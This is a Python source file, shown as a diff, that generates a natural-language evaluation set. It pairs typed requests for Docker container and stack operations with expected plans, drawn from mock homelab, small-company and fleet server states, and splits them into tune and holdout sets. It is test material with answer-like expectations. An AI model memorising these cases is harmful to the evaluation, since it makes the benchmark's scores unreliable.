@@ -1,0 +1,792 @@
+# ruff: noqa: E501  (the pattern tables: one phrasing list per line reads best)
+"""The project's own natural-language evaluation set (issue 14): phrasing patterns × live-state names
+× parameters, written the way people type (typos, casing, politeness, terse shell-like forms,
+questions, particles, coordination, time windows, parameters in words).
+
+    python -m tests.nlp.eval.generate          # rewrites tests/nlp/eval/cases.yaml (deterministic)
+    python -m tests.nlp.eval.generate --check  # exit 1 when cases.yaml is not what this generates
+
+The expected plans follow the plan contract (../shared/docs/plan-contract.md) in the format of the
+public corpus (../shared/corpus/nl-commands.yaml; checked by tests/nlp/corpus.py): targets are the
+real names of the state the case is parsed against, stacks are `stack` actions, selectors are
+expanded (``$running_all`` is the state's own `running_all`), and where a reference matches several
+things the plan must ask.
+
+Split, by pattern: the patterns below are the **tune** split; the held-out ones live in
+holdout_patterns.py (read it only to score, never to tune). When the set was made, each category's
+patterns were ordered by sha256 of their id and the first 30 % (at least one) went to holdout;
+issue 14's own example sentences (``issue=True``) are always tune. A new pattern is put in one file
+or the other once and stays there; a case's split is its pattern's.
+"""
+from __future__ import annotations
+
+import argparse
+import random
+import string
+import sys
+from collections.abc import Sequence
+from dataclasses import dataclass
+from pathlib import Path
+from types import SimpleNamespace
+from typing import Any
+
+import yaml
+
+from .kit import (
+    ANY,
+    ASK,
+    CATEGORIES,
+    EMPTY,
+    LC_VERBS,
+    NO_DAMAGE,
+    NUMBER_WORDS,
+    SAFE_VERBS,
+    STACK_VERBS,
+    E,
+    Pattern,
+    ctr,
+    each_or_all,
+    first,
+    hist,
+    logs,
+    lst,
+    port,
+    run,
+    scale,
+    slots_map,
+    stack_or_containers,
+    stack_state,
+    status,
+    stk,
+    tmpl,
+    unordered,
+    verbs,
+    window_s,
+)
+
+HERE = Path(__file__).resolve().parent
+CASES = HERE / 'cases.yaml'
+
+
+# ---- the live states -------------------------------------------------------------------------------------
+
+@dataclass(frozen=True)
+class StateDef:
+    name: str
+    description: str
+    containers: Sequence[tuple[str, str, bool]]          # plain containers: name, image, running
+    stacks: dict[str, dict[str, str]]                    # stack -> service -> image (containers <stack>-<service>-1, running)
+    refs: Sequence[tuple[str, str]]                      # a description that means exactly one container
+    amb: Sequence[str]                                   # descriptions that match several containers
+    typos: Sequence[tuple[str, str]]                     # a misspelt name and the container it means
+
+
+HOMELAB = StateDef(
+    'homelab', 'a home server: media, home automation, photos, documents; three databases, three redis',
+    containers=[
+        ('pihole', 'pihole/pihole:2024.07.0', True),
+        ('jellyfin', 'jellyfin/jellyfin:10.9.11', True),
+        ('home-assistant', 'ghcr.io/home-assistant/home-assistant:2024.9', True),
+        ('mosquitto', 'eclipse-mosquitto:2.0', True),
+        ('uptime-kuma', 'louislam/uptime-kuma:1', True),
+        ('zigbee2mqtt', 'koenkk/zigbee2mqtt:1.40', True),
+        ('syncthing', 'syncthing/syncthing:1.27', False),
+        ('duplicati', 'linuxserver/duplicati:2.0.8', False),
+        ('speedtest-tracker', 'linuxserver/speedtest-tracker:0.20', False),
+    ],
+    stacks={
+        'nextcloud': {'app': 'nextcloud:29-apache', 'db': 'mariadb:11.4', 'redis': 'redis:7'},
+        'immich': {'server': 'ghcr.io/immich-app/immich-server:v1.115', 'ml': 'ghcr.io/immich-app/immich-machine-learning:v1.115',
+                   'db': 'postgres:16', 'redis': 'redis:7'},
+        'paperless': {'web': 'ghcr.io/paperless-ngx/paperless-ngx:2.11', 'db': 'postgres:16', 'broker': 'redis:7'},
+    },
+    refs=[('home assistant', 'home-assistant'), ('mariadb', 'nextcloud-db-1'), ('nextcloud database', 'nextcloud-db-1'),
+          ('nextcloud app', 'nextcloud-app-1'), ('immich server', 'immich-server-1'), ('paperless web', 'paperless-web-1'),
+          ('paperless broker', 'paperless-broker-1'), ('immich redis', 'immich-redis-1'),
+          ('paperless database', 'paperless-db-1'), ('nextcloud redis', 'nextcloud-redis-1')],
+    amb=['the database', 'the db', 'redis', 'postgres', 'the redis cache', 'the postgres database'],
+    typos=[('jelyfin', 'jellyfin'), ('mosquito', 'mosquitto'), ('syncthng', 'syncthing'), ('duplicaty', 'duplicati'),
+           ('zigbee2mqt', 'zigbee2mqtt'), ('pihloe', 'pihole'), ('uptime-kumma', 'uptime-kuma'),
+           ('home-asistant', 'home-assistant')],
+)
+
+SMALLCO = StateDef(
+    'smallco', 'a small company: a shop, a CRM, a blog and monitoring; postgres, mysql and mariadb; two nginx',
+    containers=[
+        ('traefik', 'traefik:v3.1', True),
+        ('mailer', 'acme/mailer:4', True),
+        ('vpn', 'linuxserver/wireguard:1.0', True),
+        ('adminer', 'adminer:4', True),
+        ('docs', 'nginx:1.27', True),
+        ('backup', 'acme/backup:1', False),
+        ('ci-runner', 'gitea/act_runner:0.2', False),
+    ],
+    stacks={
+        'shop': {'web': 'nginx:1.27', 'api': 'acme/shop-api:2.3', 'db': 'postgres:16', 'cache': 'redis:7',
+                 'worker': 'acme/shop-worker:2.3'},
+        'crm': {'frontend': 'acme/crm-ui:5', 'backend': 'acme/crm-api:5', 'db': 'mysql:8.0'},
+        'blog': {'wordpress': 'wordpress:6.6-apache', 'db': 'mariadb:11.4'},
+        'metrics': {'prometheus': 'prom/prometheus:v2.54.1', 'grafana': 'grafana/grafana:11.2.2'},
+    },
+    refs=[('mysql database', 'crm-db-1'), ('postgres db', 'shop-db-1'), ('mariadb', 'blog-db-1'), ('redis', 'shop-cache-1'),
+          ('grafana', 'metrics-grafana-1'), ('prometheus', 'metrics-prometheus-1'), ('wordpress', 'blog-wordpress-1'),
+          ('crm backend', 'crm-backend-1'), ('shop worker', 'shop-worker-1'), ('wireguard vpn', 'vpn'),
+          ('crm frontend', 'crm-frontend-1'), ('blog database', 'blog-db-1')],
+    amb=['the database', 'the db', 'nginx', 'the web server', 'the db container', 'the database server'],
+    typos=[('treafik', 'traefik'), ('mailler', 'mailer'), ('adminr', 'adminer'), ('bakup', 'backup'),
+           ('ci-runer', 'ci-runner'), ('shop-wrker-1', 'shop-worker-1')],
+)
+
+FLEET_STACKS = {
+    'shop': {'web': 'nginx:1.27', 'api': 'acme/shop-api:2', 'db': 'postgres:16', 'cache': 'redis:7',
+             'worker': 'acme/shop-worker:2', 'mailer': 'acme/mailer:1'},
+    'shop-staging': {'web': 'nginx:1.27', 'api': 'acme/shop-api:3-rc', 'db': 'postgres:16'},
+    'payments': {'api': 'acme/payments:5', 'db': 'postgres:16', 'queue': 'rabbitmq:3.13'},
+    'auth': {'keycloak': 'quay.io/keycloak/keycloak:25.0', 'db': 'postgres:16'},
+    'search': {'api': 'acme/search:3', 'elastic': 'elasticsearch:8.15', 'kibana': 'kibana:8.15'},
+    'metrics': {'prometheus': 'prom/prometheus:v2.54.1', 'grafana': 'grafana/grafana:11.2.2',
+                'alertmanager': 'prom/alertmanager:0.27', 'node': 'prom/node-exporter:1.8'},
+    'chat': {'server': 'acme/chat:1', 'db': 'mongo:7.0', 'cache': 'redis:7', 'proxy': 'traefik:v3.1'},
+    'git': {'gitea': 'gitea/gitea:1.22', 'db': 'postgres:16', 'runner': 'gitea/act_runner:0.2'},
+    'media': {'jellyfin': 'jellyfin/jellyfin:10.9.11', 'sonarr': 'linuxserver/sonarr:4', 'radarr': 'linuxserver/radarr:5'},
+    'analytics': {'clickhouse': 'clickhouse/clickhouse-server:24.8', 'api': 'acme/analytics-api:1', 'web': 'acme/analytics-ui:1'},
+    'billing': {'api': 'acme/billing:2', 'worker': 'acme/billing-worker:2', 'db': 'mysql:8.0'},
+}
+FLEET_PLAIN = {'web': 'nginx:1.27', 'worker': 'acme/worker:1', 'cache': 'redis:7', 'job': 'acme/batch:4',
+               'proxy': 'traefik:v3.1', 'api': 'acme/api:3', 'db': 'postgres:16', 'runner': 'acme/runner:2',
+               'cron': 'acme/cron:1', 'tool': 'alpine:3.20'}
+
+FLEET = StateDef(
+    'fleet', '107 containers: 11 stacks (shop and shop-staging share service names) and 70 numbered plain containers',
+    containers=[(f'{kind}-{n:02d}', image, (i * 7 + n) % 10 not in (3, 8))
+                for i, (kind, image) in enumerate(FLEET_PLAIN.items()) for n in range(1, 8)],
+    stacks=FLEET_STACKS,
+    refs=[('kibana', 'search-kibana-1'), ('elasticsearch', 'search-elastic-1'), ('clickhouse', 'analytics-clickhouse-1'),
+          ('rabbitmq', 'payments-queue-1'), ('mongo db', 'chat-db-1'), ('gitea', 'git-gitea-1'), ('sonarr', 'media-sonarr-1'),
+          ('radarr', 'media-radarr-1'), ('alertmanager', 'metrics-alertmanager-1'), ('billing database', 'billing-db-1'),
+          ('payments queue', 'payments-queue-1'), ('keycloak', 'auth-keycloak-1'), ('mysql database', 'billing-db-1')],
+    amb=['web', 'the api', 'the db', 'redis', 'the cache', 'worker', 'the database', 'postgres', 'the proxy', 'the runner'],
+    typos=[('worker-3', 'worker-03'), ('cron-5', 'cron-05'), ('payments-api1', 'payments-api-1'), ('shop-wbe-1', 'shop-web-1'),
+           ('billing-wroker-1', 'billing-worker-1'), ('search-kibnaa-1', 'search-kibana-1'), ('tool-7', 'tool-07')],
+)
+
+STATES: dict[str, StateDef] = {s.name: s for s in (HOMELAB, SMALLCO, FLEET)}
+
+
+# ---- slot fillers ---------------------------------------------------------------------------------------
+
+@dataclass(frozen=True)
+class Svc:
+    stack: str
+    service: str
+    name: str
+
+
+@dataclass(frozen=True)
+class Pair:
+    stack: str
+    a: str
+    b: str
+    na: str
+    nb: str
+
+
+@dataclass(frozen=True)
+class Ref:
+    text: str
+    name: str
+
+
+@dataclass(frozen=True)
+class Tm:
+    ids: tuple[str, ...]
+    say: str
+
+    @property
+    def id(self) -> str:
+        return self.ids[0]
+
+
+@dataclass(frozen=True)
+class Img:
+    say: str
+    prefix: str
+    cport: int
+
+
+@dataclass(frozen=True)
+class Num:
+    n: int
+    word: str
+
+
+TEMPLATE_SAY: dict[str, Sequence[str]] = {
+    'ghost': ['ghost', 'Ghost'], 'gitea': ['gitea', 'Gitea'], 'jellyfin': ['jellyfin', 'Jellyfin'],
+    'keycloak': ['keycloak', 'Keycloak'], 'minio': ['minio', 'MinIO'], 'mongo-express': ['mongo express', 'mongo-express'],
+    'mysql-phpmyadmin': ['mysql with phpmyadmin', 'phpmyadmin'], 'n8n': ['n8n'], 'nextcloud': ['nextcloud', 'Nextcloud'],
+    'node-red': ['node-red', 'node red', 'Node-RED'], 'pihole': ['pihole', 'pi-hole', 'Pi-hole'],
+    'postgres-pgadmin': ['postgres with pgadmin', 'pgadmin'], 'prometheus-grafana': ['prometheus and grafana', 'grafana + prometheus'],
+    'rabbitmq': ['rabbitmq', 'RabbitMQ'], 'traefik': ['traefik', 'Traefik'],
+    'uptime-kuma': ['uptime kuma', 'uptime-kuma', 'Uptime Kuma'], 'vaultwarden': ['vaultwarden', 'Vaultwarden'],
+    'wikijs': ['wiki.js', 'wikijs', 'Wiki.js'], 'wordpress': ['wordpress', 'WordPress'],
+}
+PURPOSES: Sequence[tuple[str, tuple[str, ...]]] = [
+    ('password manager', ('vaultwarden',)), ('git server', ('gitea',)), ('media server', ('jellyfin',)),
+    ('ad blocker', ('pihole',)), ('dns sinkhole', ('pihole',)), ('team wiki', ('wikijs',)), ('message queue', ('rabbitmq',)),
+    ('s3 compatible object storage', ('minio',)), ('reverse proxy', ('traefik',)), ('status page', ('uptime-kuma',)),
+    ('uptime monitor', ('uptime-kuma',)), ('single sign-on server', ('keycloak',)), ('dropbox alternative', ('nextcloud',)),
+    ('metrics dashboard', ('prometheus-grafana',)), ('zapier alternative', ('n8n',)), ('blog', ('wordpress', 'ghost')),
+]
+RUN_IMAGES = [Img('nginx', 'nginx', 80), Img('httpd', 'httpd', 80), Img('apache httpd', 'httpd', 80), Img('caddy', 'caddy', 80),
+              Img('traefik/whoami', 'traefik/whoami', 80), Img('nginx:1.27-alpine', 'nginx:1.27-alpine', 80),
+              Img('adminer', 'adminer', 8080)]
+DB_REPOS = {'postgres', 'mysql', 'mariadb', 'mongo', 'redis', 'clickhouse-server', 'elasticsearch', 'rabbitmq'}
+GHOSTS = ['frobnicator', 'zeppelin', 'legacy-app', 'quux-server', 'oldjenkins', 'teamspeak']
+
+PARAMS: dict[str, Sequence[Any]] = {
+    'n': [2, 3, 4, 5],
+    'nw': [Num(n, w) for n, w in NUMBER_WORDS.items() if n <= 5],
+    'tail': [10, 20, 25, 50, 100, 200, 500],
+    'mins': [5, 10, 15, 20, 30, 45],
+    'hours': [2, 3, 4, 6, 12],
+    'port': [3001, 3300, 5050, 7000, 8081, 8088, 8222, 8443, 8765, 9000, 9443, 10080],
+    'pw': ['s3cret', 'hunter2', 'Tr0ub4dor', 'changeme42', 'pa55word', 'xK9mq2z', 'letmein77', 'correct-horse'],
+    'user': ['alice', 'bob', 'app', 'shopuser', 'wiki', 'admin2'],
+    'dbname': ['shop', 'inventory', 'wiki', 'app_prod', 'analytics', 'orders'],
+    'newname': ['sessions', 'test-app', 'scratch', 'cache-test', 'dev-db-2', 'demo-1', 'edge'],
+    'newstack': ['team-wiki', 'home-git', 'notes', 'ops-vault', 'blog2', 'files2', 'sso'],
+    'word': ['error', 'timeout', 'warn', 'exception', 'refused', 'panic', 'fatal'],
+    'ghost': GHOSTS,
+}
+
+
+def _repo(image: str) -> str:
+    name = image.split('@', 1)[0]
+    last = name.rsplit('/', 1)[-1]
+    return last.split(':', 1)[0]
+
+
+class World:
+    """A state's names in the pools the slots draw from."""
+
+    def __init__(self, sd: StateDef) -> None:
+        self.sd = sd
+        self.plain = [c[0] for c in sd.containers]
+        self.image = {c[0]: c[1] for c in sd.containers}
+        self.running = {c[0]: c[2] for c in sd.containers}
+        self.services: list[Svc] = []
+        self.members: dict[str, list[str]] = {}
+        for stack, services in sd.stacks.items():
+            for service, image in services.items():
+                name = f'{stack}-{service}-1'
+                self.services.append(Svc(stack, service, name))
+                self.members.setdefault(stack, []).append(name)
+                self.image[name] = image
+                self.running[name] = True
+        self.gen = [s.name for s in self.services]
+        self.names = self.plain + self.gen
+        self.running_all = [n for n in self.names if self.running[n]]
+        self.stopped = [n for n in self.names if not self.running[n]]
+        self.stacks = list(sd.stacks)
+        taken = set(self.names) | set(self.stacks)
+        self.templates = [Tm((tid,), say) for tid, says in TEMPLATE_SAY.items() if tid not in taken for say in says]
+        self.purposes = [Tm(ids, say) for say, ids in PURPOSES if not set(ids) & taken]
+        self.pools: dict[str, Sequence[Any]] = {
+            'c': self.names, 'p': self.plain, 'gen': self.gen, 'cr': self.running_all, 'cx': self.stopped,
+            'st': self.stacks, 'sv': self.services,
+            'svs': [s for s in self.services if _repo(self.image[s.name]) not in DB_REPOS],
+            'pair': [Pair(a.stack, a.service, b.service, a.name, b.name) for a in self.services for b in self.services
+                     if a.stack == b.stack and a.service < b.service],
+            'ref': [Ref(t, n) for t, n in sd.refs], 'amb': list(sd.amb), 'typo': [Ref(t, n) for t, n in sd.typos],
+            'tm': self.templates, 'pu': self.purposes,
+            'img': [i for i in RUN_IMAGES if i.say not in taken],
+            **PARAMS,
+        }
+
+    def yaml_state(self) -> dict[str, Any]:
+        return {'description': self.sd.description,
+                'containers': [{'name': n, 'image': i, 'running': r} for n, i, r in self.sd.containers],
+                'stacks': {k: dict(v) for k, v in self.sd.stacks.items()},
+                'running_all': list(self.running_all)}
+
+
+WORLDS = {name: World(sd) for name, sd in STATES.items()}
+
+
+def _roots(phrasing: str) -> list[str]:
+    out = []
+    for _, field_name, _, _ in string.Formatter().parse(phrasing):
+        if field_name:
+            root = field_name.split('.', 1)[0].split('[', 1)[0]
+            if root not in out:
+                out.append(root)
+    return out
+
+
+def _kind(root: str) -> str:
+    return root.rstrip('0123456789')
+
+
+class Unfillable(Exception):
+    pass
+
+
+def fill(pattern: Pattern, phrasing: str, extra: dict[str, Any], world: World, rng: random.Random) -> SimpleNamespace:
+    values: dict[str, Any] = {}
+    if pattern.rows:
+        values.update(rng.choice(list(pattern.rows)))
+    values.update(extra)
+    used: dict[str, set[Any]] = {}
+    for root in _roots(phrasing):
+        if root in values:
+            continue
+        kind = _kind(root)
+        pool = [v for v in world.pools.get(kind, ()) if v not in used.get(kind, set())]
+        if kind not in world.pools:
+            raise KeyError(f'pattern {pattern.id}: no pool for slot {{{root}}}')
+        if not pool:
+            raise Unfillable(root)
+        value = rng.choice(pool)
+        used.setdefault(kind, set()).add(value)
+        values[root] = value
+    return SimpleNamespace(w=world, **values)
+
+
+def _surface(text: str, pattern: Pattern, rng: random.Random) -> str:
+    text = ' '.join(text.split())
+    if pattern.case == 'upper':
+        return text.upper()
+    if pattern.case == 'title':
+        return ' '.join(w[:1].upper() + w[1:] for w in text.split(' '))
+    if pattern.case is None and rng.random() < 0.25:
+        return text[:1].upper() + text[1:]
+    return text
+
+
+def generate(patterns: Sequence[Pattern], split_of: dict[str, str]) -> list[dict[str, Any]]:
+    cases: list[dict[str, Any]] = []
+    seen: set[tuple[str, str]] = set()
+    for pattern in patterns:
+        if pattern.category not in CATEGORIES:
+            raise ValueError(f'{pattern.id}: unknown category {pattern.category}')
+        states = list(pattern.states or WORLDS)
+        phrasings = [p if isinstance(p, tuple) else (p, {}) for p in pattern.phrasings]
+        made = 0
+        for k in range(pattern.count * 6):
+            if made == pattern.count:
+                break
+            phrasing, extra = phrasings[k % len(phrasings)]          # every phrasing first, then again
+            state = states[(k % len(phrasings) + k // len(phrasings)) % len(states)]  # shifted by one each round
+            rng = random.Random(f'{pattern.id}:{k}')
+            try:
+                slots = fill(pattern, phrasing, extra, WORLDS[state], rng)
+            except Unfillable:
+                continue
+            cmd = _surface(phrasing.format(**vars(slots)), pattern, rng)
+            if (state, cmd.lower()) in seen:
+                continue
+            seen.add((state, cmd.lower()))
+            made += 1
+            case = {'id': f'{pattern.id}-{made:02d}', 'pattern': pattern.id, 'category': pattern.category,
+                    'split': split_of[pattern.id], 'state': state, 'cmd': cmd}
+            case.update(pattern.expect(slots))
+            cases.append(case)
+        if made < pattern.count:
+            raise ValueError(f'{pattern.id}: only {made} distinct cases of {pattern.count}')
+    return cases
+
+
+# ---- the tune patterns ---------------------------------------------------------------------------------
+TUNE: list[Pattern] = [
+    # ---- issue 14's own sentences, written our way (always tune) ----
+    Pattern('issue-and-kept', 'coordination', [('stop {gen} and {gen2}', {'op': 'stop'}),
+                                               ('restart {p} and {p2}', {'op': 'restart'})],
+            lambda s: each_or_all(s.op, [first(s, 'gen', 'p'), first(s, 'gen2', 'p2')]), issue=True, count=6),
+    Pattern('issue-take-down', 'phrasal', [('take the {st} stack down', {'ops': ('stop', 'remove')}),
+                                           ('shut the {st} stack off', {'ops': ('stop',)})],
+            lambda s: ANY(*[[stk(op, s.st)] for op in s.ops]), issue=True, count=6),
+    Pattern('issue-bring-back-up', 'phrasal', ['bring the {st} stack back up'],
+            lambda s: ANY([stk('start', s.st)], [stk('restart', s.st)], [stk('redeploy', s.st)]), issue=True, count=5),
+    Pattern('issue-is-stack-up', 'question', ['is {st} up?'],
+            lambda s: stack_state(s.st, s.w.members[s.st]), issue=True, count=5),
+    Pattern('issue-ports', 'question', ['what ports is {c} using'], lambda s: E(status(s.c)), issue=True, count=5),
+    Pattern('issue-memory', 'question', ['how much memory does {c} use'], lambda s: E(status(s.c)), issue=True, count=5),
+    Pattern('issue-log-window', 'logs', ['what did {gen} log in the last {mins} minutes'],
+            lambda s: E(logs(s.gen, since_s=s.mins * 60)), issue=True, count=6),
+    Pattern('issue-template-port', 'params', ['deploy {tm.say} on port {port}'],
+            lambda s: E(tmpl(s.tm.id, port=s.port)), issue=True, count=6),
+    Pattern('issue-mysql-root', 'params', ['a mysql 8 container with root password {pw}',
+                                           'run a mysql 8 container with root password {pw}'],
+            lambda s: E(run(image_prefix='mysql:8', env={'MYSQL_ROOT_PASSWORD': s.pw})), issue=True, count=5),
+    Pattern('issue-scale-count', 'scale', ['run {n} instances of the {svs.stack} {svs.service} service',
+                                           'run {n} copies of the {svs.stack} {svs.service} service'],
+            lambda s: E(scale(s.svs.stack, s.svs.service, s.n)), issue=True, count=6),
+    Pattern('issue-ask-database', 'ask', ['stop the database'], lambda s: ASK(), issue=True, count=3),
+
+    # ---- lifecycle ----
+    Pattern('lc-terse', 'lifecycle', ['{v} {c}'], lambda s: E(ctr(s.op, s.c)), rows=LC_VERBS, count=9),
+    Pattern('lc-container-word', 'lifecycle', ['{v} the {c} container', '{v} container {c}', '{v} the container called {c}'],
+            lambda s: E(ctr(s.op, s.c)), rows=LC_VERBS, count=8),
+    Pattern('lc-typo-verb', 'lifecycle', ['{v} {c}'], lambda s: E(ctr(s.op, s.c)),
+            rows=verbs('restatr=restart', 'resart=restart', 'rsetart=restart', 'stpo=stop', 'sotp=stop', 'strat=start',
+                        'satrt=start', 'puase=pause', 'unpasue=unpause'), count=8),
+    Pattern('lc-typo-name', 'lifecycle', ['{v} {typo.text}', '{v} the {typo.text} container'],
+            lambda s: E(ctr(s.op, s.typo.name)), rows=SAFE_VERBS, count=7),
+    Pattern('lc-title', 'lifecycle', ['{v} {c}', '{v} {ref.text}'],
+            lambda s: E(ctr(s.op, s.ref.name if hasattr(s, 'ref') else s.c)), rows=SAFE_VERBS, case='title', count=6),
+    Pattern('lc-stack-service', 'lifecycle', ['{v} the {sv.stack} {sv.service}', "{v} {sv.stack}'s {sv.service}",
+                                              '{v} the {sv.service} of {sv.stack}', '{v} the {sv.service} in the {sv.stack} stack',
+                                              '{v} the {sv.service} service of the {sv.stack} stack'],
+            lambda s: E(ctr(s.op, s.sv.name)), rows=verbs('restart', 'stop', 'start', 'pause', 'unpause'), count=9),
+    Pattern('lc-needs-restart', 'lifecycle', ['{c} needs a restart', '{c} is stuck, restart it', 'give {c} a restart',
+                                              'I want {c} restarted', '{c} is hanging - can you reboot it?',
+                                              'get {c} restarted'],
+            lambda s: E(ctr('restart', s.c)), count=7),
+    Pattern('lc-start-indirect', 'lifecycle', [('{cx} is down, start it', {'ops': ('start',)}),
+                                               ("{cx} isn't running, can you start it", {'ops': ('start',)}),
+                                               ('get {cx} running again', {'ops': ('start', 'restart')}),
+                                               ('please get {cx} started', {'ops': ('start',)})],
+            lambda s: ANY(*[[ctr(op, s.cx)] for op in s.ops]), count=7),
+    Pattern('lc-remove', 'lifecycle', ['remove {cx}', 'delete the {cx} container', 'get rid of {cx}', 'rm {cx}',
+                                       'throw away the {cx} container'],
+            lambda s: E(ctr('remove', s.cx)), count=6),
+
+    Pattern('lc-stop-indirect', 'lifecycle', ['{c} should not be running, stop it', "I don't need {c} right now, stop it",
+                                              'make {c} stop', '{c} can be stopped now'],
+            lambda s: E(ctr('stop', s.c)), count=6),
+    Pattern('lc-freeze', 'lifecycle', [('freeze {c}', {'op': 'pause'}), ('suspend {c}', {'op': 'pause'}),
+                                       ('unfreeze {c}', {'op': 'unpause'}), ('thaw {c}', {'op': 'unpause'})],
+            lambda s: E(ctr(s.op, s.c)), count=6),
+    # ---- stacks ----
+    Pattern('st-op', 'stack', ['{v} the {st} stack', '{v} stack {st}', '{v} {st} stack'],
+            lambda s: E(stk(s.op, s.st)), rows=STACK_VERBS, count=9),
+    Pattern('st-everything-in', 'stack', ['{v} the whole {st} stack', '{v} all of {st}', '{v} everything in {st}',
+                                          '{v} every container in the {st} stack'],
+            lambda s: stack_or_containers(s.op, s.st, s.w.members[s.st]), rows=verbs('restart', 'stop', 'start'), count=7),
+    Pattern('st-redeploy', 'stack', ['redeploy {st}', 're-deploy the {st} stack', 'recreate {st}',
+                                     'recreate the {st} containers', 'do a fresh deploy of {st}'],
+            lambda s: E(stk('redeploy', s.st)), count=7),
+    Pattern('st-pull-redeploy', 'stack', ['pull and redeploy {st}', 'pull the new images of {st}, then redeploy it',
+                                          "update {st}'s images and recreate it"],
+            lambda s: E(stk('pull', s.st), stk('redeploy', s.st)), count=6),
+    Pattern('st-remove', 'stack', ['delete the {st} stack', 'remove stack {st} completely', 'destroy {st}',
+                                   'nuke the {st} stack'],
+            lambda s: E(stk('remove', s.st)), count=6),
+
+    Pattern('st-switch-off', 'stack', ['switch the {st} stack off', 'turn off the {st} stack', 'power down the {st} stack'],
+            lambda s: stack_or_containers('stop', s.st, s.w.members[s.st]), count=6),
+    # ---- phrasal verbs ----
+    Pattern('ph-shut-off', 'phrasal', ['shut off {c}', 'shut {c} off', 'shut down {c}', 'shut {c} down please'],
+            lambda s: E(ctr('stop', s.c)), count=7),
+    Pattern('ph-shut-stack', 'phrasal', ['shut the {st} stack down', 'shut down the {st} stack', 'shut off everything in {st}'],
+            lambda s: stack_or_containers('stop', s.st, s.w.members[s.st]), count=6),
+    Pattern('ph-bring-back-up', 'phrasal', ['bring {st} back up', 'bring {st} back online', 'bring the {st} stack up again'],
+            lambda s: ANY([stk('start', s.st)], [stk('restart', s.st)], [stk('redeploy', s.st)]), count=6),
+    Pattern('ph-bring-ctr-up', 'phrasal', ['bring {cx} back up', 'bring {cx} up', 'bring up {cx}', 'bring {cx} back'],
+            lambda s: ANY([ctr('start', s.cx)], [ctr('restart', s.cx)]), count=7),
+    Pattern('ph-spin-up', 'phrasal', ['spin up {cx}', 'spin {cx} up', 'fire up {cx}', 'fire {cx} up', 'boot up {cx}'],
+            lambda s: E(ctr('start', s.cx)), count=7),
+    Pattern('ph-kill-off', 'phrasal', ['kill off {c}', 'kill {c} off', 'finish off {c}'],
+            lambda s: ANY([ctr('kill', s.c)], [ctr('stop', s.c)]), count=6),
+    Pattern('ph-tear-down', 'phrasal', ['tear down the {st} stack', 'tear {st} down', 'tear down {st} completely'],
+            lambda s: ANY([stk('remove', s.st)], [stk('stop', s.st)]), count=6),
+    Pattern('ph-stack-spin-up', 'phrasal', ['spin up the {st} stack', 'fire up {st}', 'bring up the {st} stack',
+                                            'start {st} back up'],
+            lambda s: ANY([stk('start', s.st)], [stk('redeploy', s.st)]), count=6),
+    Pattern('ph-wake-up', 'phrasal', ['wake {c} up', 'wake up {c}', 'wake the {c} container up'],
+            lambda s: ANY([ctr('unpause', s.c)], [ctr('start', s.c)]), count=6),
+
+    Pattern('ph-start-back-up', 'phrasal', ['start {cx} back up', 'start {cx} up again', 'get {cx} back up'],
+            lambda s: ANY([ctr('start', s.cx)], [ctr('restart', s.cx)]), count=6),
+    # ---- coordination of targets ----
+    Pattern('co-and', 'coordination', ['{v} {p} and {p2}', '{v} the {p} and {p2} containers'],
+            lambda s: each_or_all(s.op, [s.p, s.p2]), rows=verbs('restart', 'stop', 'start', 'pause', 'kill', 'remove'),
+            count=8),
+    Pattern('co-list3', 'coordination', ['{v} {c}, {c2} and {c3}', '{v} {c}, {c2}, and {c3}', '{v} {c} {c2} {c3}'],
+            lambda s: each_or_all(s.op, [s.c, s.c2, s.c3]), rows=verbs('restart', 'stop', 'start', 'pause'), count=8),
+    Pattern('co-both', 'coordination', ['{v} both {c} and {c2}', '{v} {c} and also {c2}', '{v} {c} as well as {c2}'],
+            lambda s: each_or_all(s.op, [s.c, s.c2]), rows=verbs('restart', 'stop', 'start', 'unpause'), count=7),
+    Pattern('co-stacks', 'coordination', ['{v} the {st} and {st2} stacks', '{v} stacks {st} and {st2}', '{v} {st} and {st2}'],
+            lambda s: unordered(E(stk(s.op, s.st), stk(s.op, s.st2))), rows=verbs('restart', 'stop', 'start', 'redeploy'), count=7),
+    Pattern('co-services', 'coordination', ['{v} the {pair.stack} {pair.a} and {pair.b}', "{v} {pair.stack}'s {pair.a} and {pair.b}",
+                                            '{v} the {pair.a} and the {pair.b} of {pair.stack}'],
+            lambda s: each_or_all(s.op, [s.pair.na, s.pair.nb]), rows=verbs('restart', 'stop', 'start'), count=7),
+    Pattern('co-mixed', 'coordination', ['{v} {c} and the {st} stack', '{v} the {st} stack and {c}'],
+            lambda s: unordered(E(ctr(s.op, s.c), stk(s.op, s.st))),
+            rows=verbs('restart', 'stop', 'start'), count=6),
+    Pattern('co-logs', 'coordination', ['show logs of {c} and {c2}', 'logs for {c} and {c2}', 'show me {c} and {c2} logs'],
+            lambda s: unordered(E(logs(s.c), logs(s.c2))), count=7),
+    Pattern('co-status', 'coordination', ['status of {c} and {c2}', 'how are {c} and {c2} doing?', 'check {c} and {c2}'],
+            lambda s: unordered(E(status(s.c), status(s.c2))), count=6),
+    # ---- coordination of requests ----
+    Pattern('seq-then-logs', 'sequence', ['{v} {c} then show its logs', '{v} {c} and show me its logs', '{v} {c}, then show the logs'],
+            lambda s: E(ctr(s.op, s.c), logs(s.c)), rows=verbs('restart', 'stop', 'start'), count=8),
+    Pattern('seq-then-tail', 'sequence', ['restart {c} and then show me the last {tail} lines',
+                                          'restart {c} then tail {tail} lines of its log'],
+            lambda s: E(ctr('restart', s.c), logs(s.c, tail=s.tail)), count=6),
+    Pattern('seq-then-status', 'sequence', ["restart {c} and tell me if it's up", 'after restarting {c}, show its status',
+                                            'restart {c}, then check its status'],
+            lambda s: E(ctr('restart', s.c), status(s.c)), count=6),
+    Pattern('seq-two-verbs', 'sequence', ['stop {c} and start {c2}', 'stop {c}, start {c2}', 'start {c2} after stopping {c}'],
+            lambda s: E(ctr('stop', s.c), ctr('start', s.c2)), count=7),
+    Pattern('seq-pronoun-them', 'sequence', [('stop {c} and {c2}, then show their logs', {'op': 'stop'}),
+                                             ('restart {c} and {c2} and show me their logs', {'op': 'restart'})],
+            lambda s: ANY([ctr(s.op, s.c, s.c2), logs(s.c), logs(s.c2)], [ctr(s.op, s.c), ctr(s.op, s.c2), logs(s.c), logs(s.c2)]),
+            count=6),
+    Pattern('seq-then-logs-window', 'sequence', ['restart {gen} and show what it logged in the last {mins} minutes',
+                                                 'restart {gen}, then show its logs from the past {mins} minutes'],
+            lambda s: E(ctr('restart', s.gen), logs(s.gen, since_s=s.mins * 60)), count=6),
